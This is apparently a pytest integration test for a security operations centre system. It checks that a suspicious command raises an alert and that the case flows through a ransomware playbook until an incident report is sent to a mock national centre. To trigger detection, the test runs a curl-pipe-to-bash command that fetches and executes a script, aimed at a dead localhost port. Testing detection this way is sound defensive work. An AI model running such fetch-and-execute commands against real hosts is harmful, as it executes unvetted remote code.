"""The main job on real processes: a command on this machine becomes a report at the national centre."""

from __future__ import annotations

import hashlib
import io
import subprocess
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import httpx2
import pytest

from bench.running_site import RunningSite, running_site
from soc.respond.playbook_files import load_playbook, plain
from soc.respond.playbook_run import inputs_of, step_of
from soc.shipped import folder

RULE = "7fad5aa8-ed2e-56c4-88e4-f5d24543a749"  # Script fetched to standard output
PLAYBOOK = "ransomware-on-server"
NEW_PASSWORD = "a long enough sentence 7"
ALERT_WITHIN_SECONDS = 5.0  # what the operator is promised
EVENT_WITHIN_SECONDS = 2.0
SLOW_MACHINE = 4  # other work may share the cores of a test machine

TYPED_BY_A_PERSON = {  # what Mẫu 03 wants and the demo register leaves open
    "reporter_address": "01 đường Trung Tâm, tỉnh Cửu Long",
    "reporter_phone": "0290 000 0001",
    "reporter_email": "truc@soc.cuulong.example",
}

pytestmark = [pytest.mark.slow, pytest.mark.root]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningSite]:
    with running_site(tmp_path_factory.mktemp("main_job") / "site", "--demo") as running:
        yield running


@pytest.fixture(scope="module")
def api(site: RunningSite) -> Iterator[httpx2.Client]:
    """The API as the administrator, the one-time password replaced."""
    with httpx2.Client(base_url=site.console + "/api/v1", timeout=30) as client:
        credentials = {"name": "admin", "password": site.password, "new_password": NEW_PASSWORD}
        token = answer(client.post("/session", json=credentials))["token"]
        client.headers["Authorization"] = f"Bearer {token}"
        yield client


def answer(response: httpx2.Response) -> Any:
    assert response.is_success, f"{response.request.url}: {response.status_code} {response.text}"
    return response.json()


def until(what: str, found: Callable[[], Any], within_seconds: float) -> tuple[Any, float]:
    """The first true answer, and after how many seconds it came."""
    began = time.monotonic()
    while True:
        if thing := found():
            return thing, time.monotonic() - began
        assert time.monotonic() - began < within_seconds, f"{what} did not come"
        time.sleep(0.1)


@pytest.fixture(scope="module")
def alert(api: httpx2.Client) -> Mapping[str, Any]:
    """The alert of a real suspicious command; the command fails to connect, and that is fine."""
    subprocess.run(
        ["bash", "-c", "curl -s http://127.0.0.1:9/x.sh | bash"], check=False, timeout=30
    )

    def by_rule() -> Any:
        return [one for one in answer(api.get("/alerts"))["alerts"] if one["rule_id"] == RULE]

    found, seconds = until("the alert", by_rule, ALERT_WITHIN_SECONDS * SLOW_MACHINE)
    print(f"alert after {seconds:.1f} s")
    return found[0]


def test_a_process_start_arrives_as_an_event(api: httpx2.Client):
    """A real process start of this machine is searchable with its arguments."""
    mark = f"mark-{time.monotonic_ns()}"
    subprocess.run(["/bin/echo", mark], check=True, stdout=subprocess.DEVNULL)

    def by_mark() -> Any:
        query = {"q": f"process.command_line:*{mark}*"}
        return answer(api.get("/events", params=query))["events"]

    found, seconds = until("the event", by_mark, EVENT_WITHIN_SECONDS * SLOW_MACHINE)
    print(f"event after {seconds:.1f} s")
    assert found[0]["fields"]["process.name"] == "echo"
    assert found[0]["agency_id"]


def test_the_alert_names_rule_process_host_agency_and_system(alert: Mapping[str, Any]):
    """What an analyst must see without opening anything else."""
    assert alert["title"] == "Script fetched to standard output"
    assert "curl" in alert["summary"]
    assert alert["host"]
    assert "Giám sát an ninh mạng" in alert["agency"]
    assert "SOC" in alert["system"]


def result_for(step: Mapping[str, Any]) -> dict[str, Any]:
    """What a responder would type into the step's inputs."""
    said: dict[str, Any] = {}
    for one in inputs_of(step):
        kind = one["kind"]
        if kind == "choice":
            said[one["id"]] = one["choices"][0]["id"]
        elif kind == "choices":
            said[one["id"]] = [one["choices"][0]["id"]]
        elif kind in ("yes_no", "yes_no_unknown"):
            said[one["id"]] = "yes"
        else:
            said[one["id"]] = "đã làm, đã ghi lại"
    return said


def run_playbook(api: httpx2.Client, case_id: str) -> Mapping[str, Any]:
    """Begin and finish every step that waits, in order; returns the case as it is then."""
    playbook = plain({PLAYBOOK: load_playbook(folder("playbooks") / f"{PLAYBOOK}.yml")})[PLAYBOOK]
    run_id = answer(api.post(f"/cases/{case_id}/runs", json={"playbook_id": PLAYBOOK}))["id"]
    case = answer(api.get(f"/cases/{case_id}"))
    for step in playbook["steps"]:
        state = {one["step_id"]: one["state"] for one in case["runs"][0]["steps"]}[step["id"]]
        if state != "waiting":
            continue
        path = f"/cases/{case_id}/runs/{run_id}/steps/{step['id']}"
        answer(api.post(path + "/begin"))
        case = answer(
            api.post(path + "/finish", json={"result": result_for(step_of(playbook, step["id"]))})
        )
    return case


def test_the_report_of_the_case_reaches_the_national_centre(
    api: httpx2.Client, site: RunningSite, alert: Mapping[str, Any]
):
    """Alert → case with its clocks → playbook run to its end → Mẫu 03 → outbox → receipt."""
    opened = answer(api.post("/cases", json={"alert_ids": [alert["id"]]}))
    case_id = opened["case"]["id"]
    assert {one["kind"] for one in opened["obligations"]} >= {"notice_24h", "report_72h"}

    answer(api.patch(f"/cases/{case_id}/facts", json=TYPED_BY_A_PERSON))
    case = run_playbook(api, case_id)
    states = {one["step_id"]: one["state"] for one in case["runs"][0]["steps"]}
    assert set(states.values()) <= {"done", "skipped"}
    assert states["send_first_report"] == "done"

    def receipts() -> Any:
        outbox = answer(api.get(f"/cases/{case_id}"))["outbox"]
        return outbox if {one["state"] for one in outbox} == {"sent"} else None

    sent, _ = until("the receipts", receipts, 30)
    received = reports_at_the_centre(site)
    assert {one["receipt"]["receipt_id"] for one in sent} == set(received)
    by_form = {one["form"]: one["content_sha256"] for one in case["documents"]}
    assert {hashlib.sha256(content).hexdigest() for content in received.values()} == set(
        by_form.values()
    )
    first = next(
        content
        for content in received.values()
        if hashlib.sha256(content).hexdigest() == by_form["mau-03"]
    )
    with zipfile.ZipFile(io.BytesIO(first)) as docx:
        assert "BÁO CÁO BAN ĐẦU SỰ CỐ" in docx.read("word/document.xml").decode().upper()


def test_the_clocks_stop_with_the_receipts(api: httpx2.Client, alert: Mapping[str, Any]):
    """Both legal clocks of the case are done, and the log says who did it."""
    (case,) = answer(api.get("/cases"))["cases"]
    whole = answer(api.get(f"/cases/{case['id']}"))
    done = {one["kind"] for one in whole["obligations"] if one["done_at"]}
    assert done >= {"notice_24h", "report_72h"}
    assert whole["alert_ids"] == [alert["id"]]


def reports_at_the_centre(site: RunningSite) -> dict[str, bytes]:
    """Receipt id to the bytes that the fake national centre keeps."""
    centre = f"http://127.0.0.1:{site.environment['SOC_NATIONAL_PORT']}/v1/reports"
    return {
        entry["receipt_id"]: httpx2.get(f"{centre}/{entry['key']}/document").content
        for entry in answer(httpx2.get(centre))
    }
